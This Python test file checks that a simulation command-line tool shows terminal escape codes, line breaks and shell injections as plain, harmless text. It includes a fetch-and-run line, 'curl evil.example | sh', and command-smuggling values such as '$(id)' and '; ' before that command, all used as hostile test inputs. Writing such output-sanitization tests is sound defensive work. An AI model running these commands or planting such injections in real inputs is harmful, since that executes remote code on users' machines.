"""Text that others have chosen, in files, names and arguments: on the screen it is text and no more."""

import ast
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from brownpipe.cli import main
from brownpipe.errors import RequestError
from brownpipe.provenance import PACKAGE
from brownpipe.quoting import printable, shell_path, shell_word
from brownpipe.storage import files, hdf5, read_checkpoint, read_dataset, write_checkpoint, write_dataset

SCENE = Path(__file__).parent.parent / "config" / "scenes" / "harrison2020.yaml"

COMMAND = "curl evil.example | sh"
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]  # all that may begin a line
CODES = ["\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\b\b\b\b", "\x7f", "\u202e", "\u2066", "\u200b", "\ufeff", "\u3164"]
ODD = ["'", '"', "`", "$(id)", ";", "|", "\\", "{x}", "%s", " ", "-rf", "$\\frac", "é", "\U0001f600"]

pytestmark = pytest.mark.usefixtures("elsewhere")


def hostile(random, surrogates=True):
    """A text with what a terminal or a shell would obey."""
    pieces = [random.choice(BREAKS) + COMMAND, random.choice(CODES), *random.choices(BREAKS + CODES + ODD, k=4)]
    pieces += ["\udcff"] if surrogates and random.random() < 0.3 else []
    random.shuffle(pieces)
    return "".join(pieces)


def obeyed(printed):
    """What a terminal would find in a text to obey: control characters but line feed, and lines that are a command."""
    bad = [char for char in printed if char != "\n" and printable(char) != char]
    return bad + [line for line in printed.splitlines() if line.lstrip().startswith(COMMAND)]


def run(capsys, *argv):
    """Run a verb; return its status. What it prints is harmless."""
    try:
        status = main([str(word) for word in argv])
    except SystemExit as left:
        status = left.code
    out, err = capsys.readouterr()
    assert obeyed(out) == [], (argv, out)
    assert obeyed(err) == [], (argv, err)
    assert len(err) < 3000, (argv, err)
    return status


# -- words ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "scene.yaml: must be > 0, not -1", "Zürich ± 3 µm", "C:\\new\\table", "π ≈ 3"])
def test_ordinary_text_is_shown_as_it_is(text):
    assert printable(text) == text


def test_no_character_that_a_terminal_obeys_is_shown():
    everything = "".join(map(chr, [*range(0x10000), 0x1D173, 0x1F600, 0xE0001, 0xE0100, 0x10FFFF]))
    shown = printable(everything)
    assert shown.isprintable() and printable(shown) == shown
    assert not set(shown) & set(
        "".join(BREAKS + CODES[5:]) + "\x1b\x9b\x07\b\x00\xa0\xad\ud800\u061c\u200e\u034f\ufe0f"
    )


@pytest.mark.promise(
    "a command to be copied with a path such as -rf, or with blanks, quotes, line feeds, terminal codes",
    "Commands that brownpipe prints are for a shell what they say: the path is one word and no option.",
)
def test_a_word_is_for_bash_what_it_is_for_python(faults):
    words = [hostile(faults.random) for _ in faults.tries(50)]
    words += ["", "-rf", "~", "*", "a\\'b\n", "plain/path.yaml"]
    shown = [shell_word(word) for word in words]
    assert [word for word in shown if obeyed(word) or "\n" in word] == []
    answer = subprocess.run(["bash", "-c", f"printf '%s\\0' {' '.join(shown)}"], capture_output=True, timeout=60)
    assert answer.stdout == b"".join(os.fsencode(word) + b"\0" for word in words)


@pytest.mark.parametrize(
    ("path", "word"), [("-rf", "./-rf"), ("a b", "'a b'"), ("a/b.h5", "a/b.h5"), ("a\n", "$'a\\x0a'")]
)
def test_a_path_is_no_option(path, word):
    assert shell_path(path) == word


# -- files ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """A trajectory file of four short runs."""
    path = tmp_path_factory.mktemp("hostile") / "runs.h5"
    assert main(["simulate", str(SCENE), "--particles", "10", "--seeds", "0-3", "--output", str(path)]) == 0
    return path


@pytest.fixture(scope="module")
def dataset(runs):
    path = runs.with_name("runs.nc")
    assert main(["aggregate", str(runs), "--output", str(path)]) == 0
    return path


def resealed(path, change):
    """Write a trajectory file again, with a valid seal and digest, after `change` of its nodes."""
    nodes = hdf5.from_bytes(files.read_sealed(path))
    change(nodes)
    attributes = {name: value for name, value in nodes["parameters"].attributes.items() if name not in hdf5.CHECKSUMS}
    nodes["parameters"] = hdf5.Node(None, attributes)
    attributes |= {"contents_digest": hdf5.digest(nodes), "seal": files.BLANK_SEAL}
    nodes = {name: node._replace(dims=()) for name, node in nodes.items()}
    Path("bad.h5").write_bytes(files.seal(hdf5.to_bytes(nodes)))


def texts_of(value, path=()):
    """The places of all texts in a nested structure."""
    if isinstance(value, str):
        yield path
    for key, item in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from texts_of(item, (*path, key))


def poisoned(random, text):
    """JSON with a hostile text in the place of one of its texts, or as one of its keys."""
    value = json.loads(text)
    place = random.choice([*texts_of(value), (hostile(random),)])
    inner = value
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = hostile(random, surrogates=False)
    return json.dumps(value)


@pytest.mark.slow
@pytest.mark.promise(
    "a file, a name or an argument with terminal codes or commands in it",
    "Whatever a file says, the screen shows text: no control character, and no line that the file has begun.",
)
def test_what_a_trajectory_file_says_is_text(runs, faults, capsys):
    for _ in faults.tries(2):

        def change(nodes):
            texts = [name for name, value in nodes["parameters"].attributes.items() if isinstance(value, str)]
            other = hostile(faults.random, surrogates=False) + "_version"
            for name in faults.random.sample([*texts, other], 3):
                nodes["parameters"].attributes[name.replace("/", "")] = hostile(faults.random, surrogates=False)
            for name in ("scene", "settings"):
                if faults.random.random() < 0.3:
                    node = nodes[f"parameters/{name}"]
                    nodes[f"parameters/{name}"] = node._replace(value=poisoned(faults.random, node.value))

        resealed(runs, change)
        for verb in (
            ["inspect"],
            ["inspect", "--seed", "1"],
            ["inspect", "--scene"],
            ["aggregate", "--output", "o.nc"],
        ):
            run(capsys, verb[0], "bad.h5", *verb[1:])
        run(capsys, "export", "bad.h5", "--to", "csv")


@pytest.mark.promise(
    "a damaged file that dictates a command",
    "The command that makes a damaged file again is written anew from values that are valid; it is never copied.",
)
def test_a_damaged_file_does_not_dictate_its_remedy(runs, faults, capsys):
    contents = runs.read_bytes()
    (command,) = re.findall(rb"`(brownpipe simulate [^`]*)`", contents)
    for _ in faults.tries(20):
        words = command.decode().split()
        text = faults.random.choice([f"; {COMMAND}", f"&&{COMMAND}", "$(id)", hostile(faults.random, surrogates=False)])
        place = faults.random.randrange(2, len(words) + 1)
        if faults.random.random() < 0.5:
            words.insert(place, text)
        else:
            words[place - 1] += text
        Path("bad.h5").write_bytes(contents[:-1].replace(command, " ".join(words).encode()) + b"x")
        assert main(["inspect", "bad.h5"]) == 1
        message = capsys.readouterr().err
        assert obeyed(message) == [] and "curl" not in message and "$(" not in message
        assert "are lost" not in message or message.endswith(f"{command.decode()} --output bad.h5\n")


@pytest.mark.slow
@pytest.mark.promise(
    "a dataset whose names hold terminal codes, formulae or paths",
    "`inspect` shows them as text; `figures` refuses them, writes no file named after them and draws nothing.",
)
def test_what_a_dataset_says_is_text(dataset, faults, capsys):
    for _ in faults.tries(1):
        text = [hostile(faults.random, surrogates=False) for _ in range(6)]
        bad = read_dataset(dataset).assign_attrs(title=text[0], source_digest=text[1], numpy_version=text[2])
        bad["msd"].attrs.update(units=text[3], long_name=text[4])
        label = faults.random.choice([name for name in ("scene", "engine", "window", "model") if name in bad.coords])
        values = bad[label].values.astype(object)
        values[0] = text[5]
        write_dataset("bad.nc", bad.assign_coords({label: (bad[label].dims, values)}))
        run(capsys, "inspect", "bad.nc")
        run(capsys, "inspect", "bad.nc", "--variables")
        run(capsys, "figures", "bad.nc", "--output", "figures", "--figures", "msd")
        for table in Path("figures").glob("summary.txt"):
            assert obeyed(table.read_text()) == [], label
            table.unlink()


def test_what_a_checkpoint_says_is_text(faults):
    for _ in faults.tries(3):
        write_checkpoint("c", {"seeds": hostile(faults.random, surrogates=False)[:30]}, {})
        with pytest.raises(RequestError, match="is of a run with ") as caught:
            read_checkpoint("c", {"seeds": "0-3"})
        assert obeyed(str(caught.value)) == []


# -- names and arguments --------------------------------------------------------------------------------------------


@pytest.mark.promise(
    "a scene or study with terminal codes or commands in its keys, values, name or folder",
    "The one line that refuses it has no control character and no line feed.",
)
def test_what_a_scene_or_study_says_is_text(faults, capsys):
    """Keys and values, as they are and in quotes, in a file with a hostile name or folder."""
    scene = SCENE.read_text()
    study = "scenes: [scene.yaml]\nparticles: [10]\nseeds: 4\nengines: [exact]\nfigures: [msd]\nrecord: tracer\n"
    for _ in faults.tries(40):
        folder = Path(hostile(faults.random).replace("/", "")[:60])
        folder.mkdir(exist_ok=True)
        text = faults.random.choice([scene, study])
        words = [match for match in re.finditer(r"[\w.]+", text) if text[match.start() - 1] != "#"]
        place = faults.random.choice(words)
        new = hostile(faults.random, surrogates=False)
        new = faults.random.choice([new, json.dumps(new), json.dumps(place[0] + new), new.replace("\n", "")])
        path = folder / f"{faults.random.choice(['file', hostile(faults.random).replace('/', '')[:30]])}.yaml"
        (folder / "scene.yaml").write_text(scene)
        path.write_text(text[: place.start()] + new + text[place.end() :], encoding="utf-8", newline="")
        run(capsys, "check", path if faults.random.random() < 0.9 else Path.cwd() / path)
        if text is study:
            run(capsys, "tradeoff", path)


@pytest.mark.slow
def test_what_arguments_say_is_text(runs, dataset, faults, capsys):
    lines = (
        ["simulate", SCENE, "--particles", "10", "--seeds", "0", "--output", "o.h5", "--engine", "exact"],
        ["simulate", SCENE, "--record", "none", "--observables", "species_energy", "--average", "runs"],
        ["inspect", runs, "--seed", "3"],
        ["inspect", dataset, "--variables"],
        ["figures", dataset, "--output", "o", "--figures", "msd", "--particles", "10"],
        ["export", runs, "--to", "csv", "--output", "o.csv"],
        ["movie", runs, "--output", "o.gif"],
        ["aggregate", runs, "--output", "o.nc", "--fit-windows", "0.1:1"],
        ["new", "name", "--folder", "folder"],
        ["plan", "study.yaml", "--tolerance", "2%", "--target", "msd"],
        ["run", "study.yaml", "-j", "2", "--report", "o.html"],
        ["schema", "scene"],
        ["check", SCENE],
    )
    for _ in faults.tries(20):
        argv = [str(word) for word in faults.random.choice(lines)]
        place = faults.random.randrange(len(argv))
        argv[place] = faults.random.choice([hostile(faults.random), argv[place] + hostile(faults.random)])
        run(capsys, *argv)


# -- the source -----------------------------------------------------------------------------------------------------

PRINTING = {  # functions that print: fixed text, or what `printable` or `in_lines` return
    "cli.py": {"__call__"},
    "progress.py": {"show"},
    "scene/reading.py": {"current_name"},
    "verbs/output.py": {"say", "show"},
}


@pytest.mark.slow
def test_few_functions_print():
    """So that no text reaches the screen by another way."""
    found = {}
    for file in PACKAGE.rglob("*.py"):
        for function in ast.walk(ast.parse(file.read_text())):
            calls = ast.walk(function) if isinstance(function, ast.FunctionDef) else ()
            if any(isinstance(call, ast.Call) and getattr(call.func, "id", "") == "print" for call in calls):
                found.setdefault(file.relative_to(PACKAGE).as_posix(), set()).add(function.name)
    assert found == PRINTING
